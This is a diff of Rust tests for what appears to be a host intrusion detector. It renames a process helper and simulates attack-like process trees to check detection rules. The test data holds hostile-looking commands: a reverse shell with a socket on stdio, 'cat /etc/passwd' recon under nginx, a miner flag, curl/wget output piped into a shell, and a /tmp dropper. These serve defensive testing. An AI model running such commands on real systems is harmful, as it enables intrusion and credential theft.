@@ -91,16 +91,16 @@ fn tty() -> [FdFact; 3] {
     [fd(FdKind::Tty, 1); 3]
 }
 
-fn proc(pid: u32, ppid: u32, argv: &[&str], exe: &str, stdio: [FdFact; 3]) -> ProcessInfo {
+fn process(pid: u32, parent: u32, argv: &[&str], exe: &str, stdio: [FdFact; 3]) -> ProcessInfo {
     let comm: String = exe.rsplit('/').next().unwrap().chars().take(15).collect();
     ProcessInfo {
         key: ProcKey {
             pid,
             start_ns: u64::from(pid) * 1_000_000,
         },
-        ppid,
-        parent_start_ns: u64::from(ppid) * 1_000_000,
-        sid: if ppid == 1 { pid } else { 10 },
+        ppid: parent,
+        parent_start_ns: u64::from(parent) * 1_000_000,
+        sid: if parent == 1 { pid } else { 10 },
         uid: 0,
         euid: 0,
         comm,
@@ -133,7 +133,7 @@ impl Rig {
             det: Detector::new(RuleSet::builtin().unwrap(), DetectSettings::default(), 0),
             events: Vec::new(),
         };
-        rig.exec(proc(10, 1, &["bash"], "/usr/bin/bash", tty()));
+        rig.exec(process(10, 1, &["bash"], "/usr/bin/bash", tty()));
         rig
     }
 
@@ -205,8 +205,8 @@ fn reverse_shell_needs_a_socket_on_stdio() {
         local: None,
         peer: Some(peer),
     };
-    rig.exec(proc(20, 10, &["bash", "-i"], "/usr/bin/bash", [sock; 3]));
-    rig.exec(proc(21, 10, &["bash", "-i"], "/usr/bin/bash", tty()));
+    rig.exec(process(20, 10, &["bash", "-i"], "/usr/bin/bash", [sock; 3]));
+    rig.exec(process(21, 10, &["bash", "-i"], "/usr/bin/bash", tty()));
     assert_eq!(rig.rules_on(20), ["reverse_shell"]);
     assert!(rig.rules_on(21).is_empty());
     let f = &rig.flags()[0];
@@ -223,20 +223,26 @@ fn reverse_shell_needs_a_socket_on_stdio() {
 fn webserver_incident_rolls_up_into_one_notable_trace() {
     let mut rig = Rig::new();
     // nginx as a service (child of pid 1), a shell under it, recon commands.
-    rig.exec(proc(30, 1, &["nginx"], "/usr/sbin/nginx", tty()));
-    rig.exec(proc(
+    rig.exec(process(30, 1, &["nginx"], "/usr/sbin/nginx", tty()));
+    rig.exec(process(
         31,
         30,
         &["sh", "-c", "id; uname -a; cat /etc/passwd"],
         "/usr/bin/dash",
         tty(),
     ));
-    rig.exec(proc(32, 31, &["id"], "/usr/bin/id", tty()));
-    rig.exec(proc(33, 31, &["uname", "-a"], "/usr/bin/uname", tty()));
-    rig.exec(proc(34, 31, &["cat", "/etc/passwd"], "/usr/bin/cat", tty()));
+    rig.exec(process(32, 31, &["id"], "/usr/bin/id", tty()));
+    rig.exec(process(33, 31, &["uname", "-a"], "/usr/bin/uname", tty()));
+    rig.exec(process(
+        34,
+        31,
+        &["cat", "/etc/passwd"],
+        "/usr/bin/cat",
+        tty(),
+    ));
     // An unrelated incident in another session: a second trace.
-    rig.exec(proc(40, 1, &["sshd"], "/usr/sbin/sshd", tty()));
-    rig.exec(proc(
+    rig.exec(process(40, 1, &["sshd"], "/usr/sbin/sshd", tty()));
+    rig.exec(process(
         41,
         40,
         &["x", "--donate-level=1"],
@@ -264,14 +270,14 @@ fn webserver_incident_rolls_up_into_one_notable_trace() {
 fn download_piped_into_a_shell_in_either_exec_order() {
     let mut rig = Rig::new();
     let (r, w) = (fd(FdKind::Pipe, 77), fd(FdKind::Pipe, 77));
-    rig.exec(proc(
+    rig.exec(process(
         50,
         10,
         &["sh"],
         "/usr/bin/dash",
         [r, fd(FdKind::Tty, 1), fd(FdKind::Tty, 1)],
     ));
-    rig.exec(proc(
+    rig.exec(process(
         51,
         10,
         &["curl", "-s", "http://x/"],
@@ -280,16 +286,16 @@ fn download_piped_into_a_shell_in_either_exec_order() {
     ));
     assert_eq!(rig.rules_on(50), ["download_piped_to_shell"]);
     // Another session (the same rule in the same tree would be a repeat).
-    rig.exec(proc(11, 1, &["bash"], "/usr/bin/bash", tty()));
+    rig.exec(process(11, 1, &["bash"], "/usr/bin/bash", tty()));
     let (r, w) = (fd(FdKind::Pipe, 78), fd(FdKind::Pipe, 78));
-    rig.exec(proc(
+    rig.exec(process(
         53,
         11,
         &["wget", "-qO-", "http://x/"],
         "/usr/bin/wget",
         [fd(FdKind::Tty, 1), w, fd(FdKind::Tty, 1)],
     ));
-    rig.exec(proc(
+    rig.exec(process(
         52,
         11,
         &["bash"],
@@ -299,14 +305,14 @@ fn download_piped_into_a_shell_in_either_exec_order() {
     assert_eq!(rig.rules_on(52), ["download_piped_to_shell"]);
     // cat into a shell is not a download.
     let (r, w) = (fd(FdKind::Pipe, 79), fd(FdKind::Pipe, 79));
-    rig.exec(proc(
+    rig.exec(process(
         55,
         10,
         &["cat", "x.sh"],
         "/usr/bin/cat",
         [fd(FdKind::Tty, 1), w, fd(FdKind::Tty, 1)],
     ));
-    rig.exec(proc(
+    rig.exec(process(
         54,
         10,
         &["sh"],
@@ -320,11 +326,11 @@ fn download_piped_into_a_shell_in_either_exec_order() {
 fn restart_loop_counts_failed_runs_only() {
     let mut rig = Rig::new();
     for pid in 60..64 {
-        rig.exec(proc(pid, 10, &["svc", "--run"], "/usr/bin/svc", tty()));
+        rig.exec(process(pid, 10, &["svc", "--run"], "/usr/bin/svc", tty()));
         rig.exit(pid, 1);
     }
     for pid in 70..76 {
-        rig.exec(proc(pid, 10, &["ok"], "/usr/bin/ok", tty()));
+        rig.exec(process(pid, 10, &["ok"], "/usr/bin/ok", tty()));
         rig.exit(pid, 0);
     }
     let flags: Vec<_> = rig
@@ -341,21 +347,21 @@ fn restart_loop_counts_failed_runs_only() {
 #[test]
 fn build_tools_are_excepted_not_silenced() {
     let mut rig = Rig::new();
-    rig.exec(proc(
+    rig.exec(process(
         80,
         10,
         &["cargo", "build"],
         "/root/.cargo/bin/cargo",
         tty(),
     ));
-    rig.exec(proc(
+    rig.exec(process(
         81,
         80,
         &["build-script-build"],
         "/tmp/c/target/debug/build/x/build-script-build",
         tty(),
     ));
-    rig.exec(proc(82, 10, &["/tmp/dropper"], "/tmp/dropper", tty()));
+    rig.exec(process(82, 10, &["/tmp/dropper"], "/tmp/dropper", tty()));
     let flags = rig.flags();
     let build = flags.iter().find(|f| f.process.unwrap().pid == 81).unwrap();
     assert!(
